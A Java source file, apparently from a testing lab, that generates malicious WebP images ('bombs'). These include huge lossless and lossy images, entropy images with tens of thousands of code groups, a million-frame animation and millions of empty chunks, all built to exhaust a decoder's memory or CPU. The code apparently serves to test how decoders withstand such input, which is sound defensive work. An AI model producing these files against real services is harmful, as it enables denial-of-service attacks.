package io.inceptionstreams.lab.bombs;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;
import org.bytedeco.javacpp.BytePointer;
import org.bytedeco.javacpp.IntPointer;
import org.bytedeco.opencv.global.opencv_core;
import org.bytedeco.opencv.global.opencv_imgcodecs;
import org.bytedeco.opencv.opencv_core.Mat;
import org.bytedeco.opencv.opencv_core.Scalar;

/** WebPs. Lossy ones are OpenCV's; lossless ones are written by hand. */
final class WebpBombs {

    private static final String FORMAT = "webp";

    private WebpBombs() {}

    static List<Bomb> all() {
        List<Bomb> all = new ArrayList<>();
        for (int megapixels : new int[] {50, 24}) {
            int side = (int) Math.sqrt(megapixels * 1e6);
            all.add(new Bomb(FORMAT, megapixels + " MP, lossy, flat", () -> riff(lossy(side, false))));
            all.add(new Bomb(
                    FORMAT,
                    megapixels + " MP, lossless, flat",
                    () -> riff(chunk("VP8L", lossless(side, side, out -> flatCodes(out, 0))))));
            all.add(new Bomb(FORMAT, megapixels + " MP, lossy, with transparency", () -> riff(transparent(side))));
            for (int transform = 0; transform < 4; transform++) {
                int each = transform;
                all.add(new Bomb(
                        FORMAT,
                        megapixels + " MP, lossless, transform " + transform,
                        () -> riff(chunk("VP8L", lossless(side, side, out -> {
                            transform(out, each);
                            flatCodes(out, 0);
                        })))));
            }
            all.add(new Bomb(
                    FORMAT,
                    megapixels + " MP, lossless, all transforms and a cache",
                    () -> riff(chunk("VP8L", lossless(side, side, out -> {
                        transform(out, 0);
                        transform(out, 1);
                        transform(out, 2);
                        flatCodes(out, 11);
                    })))));
        }
        all.add(new Bomb(FORMAT, "16 MP, lossy, noise", () -> riff(lossy(4000, true))));
        for (int groups : new int[] {1000, 4000, 8000, 60_000}) {
            all.add(new Bomb(FORMAT, groups + " groups of codes", () -> riff(chunk("VP8L", groups(1024, groups, 0)))));
            all.add(new Bomb(
                    FORMAT,
                    groups + " groups of codes and a cache",
                    () -> riff(chunk("VP8L", groups(1024, groups, 11)))));
        }
        all.add(new Bomb(FORMAT, "an entropy image of 4 MP", () -> riff(chunk("VP8L", groups(8188, 2, 0)))));
        all.add(new Bomb(FORMAT, "an animation of a million frames", () -> {
            byte[] frame = new BitSink()
                    .zeros(6)
                    .bytes(42, 1, 0, 42, 1, 0)
                    .zeros(4)
                    .bytes(chunk("VP8L", lossless(299, 299, out -> flatCodes(out, 0))))
                    .toByteArray();
            BitSink chunks = new BitSink()
                    .bytes(chunk(
                            "VP8X",
                            new BitSink().bytes(2, 0, 0, 0, 42, 1, 0, 42, 1, 0).toByteArray()))
                    .bytes(chunk("ANIM", new byte[6]));
            byte[] one = chunk("ANMF", frame);
            while (chunks.size() < Bomb.MOST_BYTES - 1000) {
                chunks.bytes(one);
            }
            return riff(chunks.toByteArray());
        }));
        all.add(new Bomb(FORMAT, "two million unknown chunks", () -> {
            BitSink chunks = new BitSink();
            byte[] one = chunk("abcd", new byte[0]);
            while (chunks.size() < Bomb.MOST_BYTES - 1000) {
                chunks.bytes(one);
            }
            return riff(chunks.bytes(chunk("VP8L", lossless(299, 299, out -> flatCodes(out, 0))))
                    .toByteArray());
        }));
        return all;
    }

    private static byte[] riff(byte[] chunks) {
        return new BitSink()
                .text("RIFF")
                .u32le(chunks.length + 4L)
                .text("WEBP")
                .bytes(chunks)
                .toByteArray();
    }

    private static byte[] chunk(String type, byte[] content) {
        return new BitSink()
                .text(type)
                .u32le(content.length)
                .bytes(content)
                .zeros(content.length & 1)
                .toByteArray();
    }

    /** The chunk of a lossy image. */
    private static byte[] lossy(int side, boolean noise) {
        try (Mat image = new Mat(side, side, opencv_core.CV_8UC3, new Scalar(9, 99, 199, 0));
                BytePointer encoded = new BytePointer();
                IntPointer params = new IntPointer(opencv_imgcodecs.IMWRITE_WEBP_QUALITY, 90)) {
            if (noise) {
                byte[] random = new byte[3 * side * side];
                new Random(side).nextBytes(random);
                image.data().put(random, 0, random.length);
            }
            opencv_imgcodecs.imencode(".webp", image, encoded, params);
            byte[] bytes = new byte[(int) encoded.limit()];
            encoded.get(bytes);
            return java.util.Arrays.copyOfRange(bytes, 12, bytes.length);
        }
    }

    /** A lossy image whose transparency is a lossless one. */
    private static byte[] transparent(int side) {
        byte[] alpha = new BitSink().bytes(1).bits(0, 1).bytes(new byte[0]).toByteArray();
        BitSink lossless = new BitSink();
        flatCodes(lossless, 0);
        int last = side - 1;
        return new BitSink()
                .bytes(chunk(
                        "VP8X",
                        new BitSink()
                                .bytes(16, 0, 0, 0, last, last >> 8, last >> 16, last, last >> 8, last >> 16)
                                .toByteArray()))
                .bytes(chunk(
                        "ALPH",
                        new BitSink()
                                .bytes(alpha)
                                .bytes(lossless.flush().toByteArray())
                                .zeros(8)
                                .toByteArray()))
                .bytes(lossy(side, false))
                .toByteArray();
    }

    private static byte[] lossless(int width, int height, Consumer<BitSink> rest) {
        BitSink out = new BitSink()
                .bytes(0x2f)
                .bits(width - 1, 14)
                .bits(height - 1, 14)
                .bits(0, 4);
        rest.accept(out);
        return out.flush().zeros(8).toByteArray();
    }

    private static void transform(BitSink out, int kind) {
        out.bits(1, 1).bits(kind, 2);
        if (kind == 3) { // two colours: eight pixels become one
            out.bits(1, 8);
            innerImage(out);
        } else if (kind != 2) {
            out.bits(7, 3);
            innerImage(out);
        }
    }

    private static void innerImage(BitSink out) {
        out.bits(0, 1);
        for (int i = 0; i < 5; i++) {
            single(out, i == 0 ? 13 : 0); // the costliest prediction
        }
    }

    /** No further transform, a cache perhaps, one group, and one symbol in each of its codes: no pixel takes a bit. */
    private static void flatCodes(BitSink out, int cache) {
        out.bits(0, 1);
        cache(out, cache);
        out.bits(0, 1);
        for (int i = 0; i < 5; i++) {
            single(out, 7);
        }
    }

    private static void cache(BitSink out, int bits) {
        out.bits(bits > 0 ? 1 : 0, 1);
        if (bits > 0) {
            out.bits(bits, 4);
        }
    }

    private static void single(BitSink out, int symbol) {
        out.bits(1, 1).bits(0, 1).bits(1, 1).bits(symbol, 8);
    }

    /** An entropy image that names many groups, and codes for each. */
    private static byte[] groups(int side, int groups, int cache) {
        return lossless(side, side, out -> {
            out.bits(0, 1);
            cache(out, cache);
            out.bits(1, 1).bits(0, 3).bits(0, 1); // blocks of 4x4
            eightBitCode(out, 256 + 24);
            eightBitCode(out, 256);
            for (int i = 0; i < 3; i++) {
                single(out, 0);
            }
            int blocks = (side + 3) / 4;
            for (int i = 0; i < blocks * blocks; i++) {
                int group = i % groups;
                out.bits(Integer.reverse(group & 0xff) >>> 24, 8).bits(Integer.reverse(group >> 8) >>> 24, 8);
            }
            for (int i = 0; i < groups; i++) {
                for (int code = 0; code < 5; code++) {
                    single(out, 7);
                }
            }
        });
    }

    /** A code of 8 bits for the symbols 0 to 255, by a code of lengths that has 0 and 8. */
    private static void eightBitCode(BitSink out, int symbols) {
        out.bits(0, 1).bits(12 - 4, 4);
        for (int i = 0; i < 12; i++) {
            out.bits(i == 2 || i == 11 ? 1 : 0, 3);
        }
        out.bits(0, 1);
        for (int i = 0; i < symbols; i++) {
            out.bits(i < 256 ? 1 : 0, 1);
        }
    }
}
